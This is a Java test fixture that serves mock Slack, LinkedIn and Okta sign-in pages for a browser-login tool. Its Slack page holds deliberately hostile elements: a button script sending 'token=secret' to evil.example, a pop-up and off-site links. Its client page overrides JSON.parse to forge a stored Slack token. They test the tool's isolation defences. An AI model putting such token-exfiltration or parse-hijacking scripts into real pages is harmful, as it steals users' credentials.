package dev.latchkey.browser.chromium;

import com.sun.net.httpserver.HttpExchange;
import java.io.IOException;
import java.nio.charset.StandardCharsets;

/** The stand-in sites' pages and how they are sent (see {@link ServiceSites}). */
final class SitePages {

    private SitePages() {
    }

    static final String OKTA_TENANT = """
            <h1 id=okta>Acme sign-in</h1>
            <a id=other-tenant href="https://other.okta.com/app">another tenant</a>
            """;

    static String slackSignIn(String error) {
        return """
                <h1>Sign in to Slack</h1>
                <p id=error>%s</p>
                <form method=post action=/signin>
                  <input id=email name=email> <input id=password name=password type=password>
                  <button id=submit>Sign in</button>
                </form>
                <a id=evil-link href="https://evil.example/link">a link away</a>
                <a id=redirect-link href="/leave">a redirect away</a>
                <button id=script-button onclick="location.href='https://evil.example/script?token=secret'">a script away</button>
                <button id=popup-button onclick="window.open('https://evil.example/popup')">a pop-up</button>
                <a id=blank-link href="https://slack.com/help" target=_blank>help in a new window</a>
                <a id=sso-link href="/sso">sign in with your company (a redirect to its SSO tenant)</a>
                <a id=okta-link href="https://acme.okta.com/app/slack/sso">the SSO tenant by a link</a>
                """.formatted(error);
    }

    static final String SLACK_CLIENT = """
            <h1 id=client>Slack</h1>
            <script>
              setTimeout(() => localStorage.setItem('localConfig_v2', JSON.stringify({teams: {
                T111AAA: {name: 'first', token: 'xoxc-111-first-team'},
                T222BBB: {name: 'second', token: 'xoxc-222-second-team'}}})), 300);
              // A page that forges what a read in its own world would get; the login window reads in an isolated one.
              const parse = JSON.parse;
              JSON.parse = (text) => { const value = parse(text); if (value && value.teams) value.teams.T222BBB = {token: 'xoxc-666-forged'}; return value; };
              setTimeout(() => fetch('/late-cookie', {credentials: 'include'}), 700);
            </script>
            """;

    static final String SLACK_CLIENT_AT_ONCE = """
            <h1 id=client>Slack</h1>
            <script>
              localStorage.setItem('localConfig_v2', JSON.stringify({teams: {
                T111AAA: {name: 'first', token: 'xoxc-111-first-team'},
                T222BBB: {name: 'second', token: 'xoxc-222-second-team'}}}));
            </script>
            """;

    static String linkedInSignIn(String error) {
        return """
                <h1>Sign in to LinkedIn</h1>
                <p id=error>%s</p>
                <form method=post action=/login>
                  <input id=username name=username> <input id=password name=password type=password>
                  <button id=submit>Sign in</button>
                </form>
                """.formatted(error);
    }

    static void page(HttpExchange exchange, int status, String body) throws IOException {
        byte[] bytes = ("<!doctype html><html><head><meta charset=utf-8><title>test site</title></head><body>"
                + body + "</body></html>").getBytes(StandardCharsets.UTF_8);
        exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
        exchange.sendResponseHeaders(status, bytes.length);
        exchange.getResponseBody().write(bytes);
    }

    static void redirect(HttpExchange exchange, String location) throws IOException {
        exchange.getResponseHeaders().set("Location", location);
        exchange.sendResponseHeaders(302, -1);
    }
}
